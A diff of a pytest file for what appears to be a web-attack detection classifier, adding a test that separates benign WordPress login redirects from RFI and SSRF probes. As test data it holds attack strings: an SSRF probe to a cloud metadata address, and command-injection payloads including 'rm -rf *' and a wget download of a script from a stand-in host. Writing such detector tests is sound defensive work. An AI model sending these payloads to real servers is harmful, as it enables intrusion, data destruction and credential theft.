@@ -231,6 +231,24 @@ def test_a_search_for_quoted_words_joined_by_or_is_no_sqli(target):
 
 
 @pytest.mark.parametrize("target", [
+    "/wp-login.php?redirect_to=http%3A%2F%2F10.0.0.5%2Fwp-admin%2F&reauth=1",
+    "/wp-login.php?redirect_to=https://192.168.1.10/wp-admin/post.php?post=7",
+    "/pn/wp-login.php?redirect_to=http://172.20.0.3/pn/wp-admin/",
+    "/wp-login.php?redirect_to=http://127.0.0.1/wp-admin/",
+])
+def test_a_login_s_redirect_to_a_private_address_is_no_rfi(target):
+    """Staff opening the site by its LAN address are sent to wp-login.php with
+    redirect_to= that address: an address in a URL parameter was remote file inclusion.
+    A redirect_to a public address, or another parameter naming a private one (an SSRF
+    probe), still is."""
+    assert patterns.target_categories(target.encode()) == ()
+    for attack in ("/wp-login.php?redirect_to=http://45.1.2.3/x.txt",
+                   "/wp-login.php?redirect_to=http://172.32.0.3/", "/?page=http://10.0.0.5/x",
+                   "/?url=http://169.254.169.254/latest/meta-data/"):
+        assert "rfi" in patterns.target_categories(attack.encode()), attack
+
+
+@pytest.mark.parametrize("target", [
     "/?x=`id`", "/?host=127.0.0.1%0Aid", "/?ip=1%0auname%20-a",
     "/cgi-bin/;cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://203.0.113.9/x.sh",
 ])
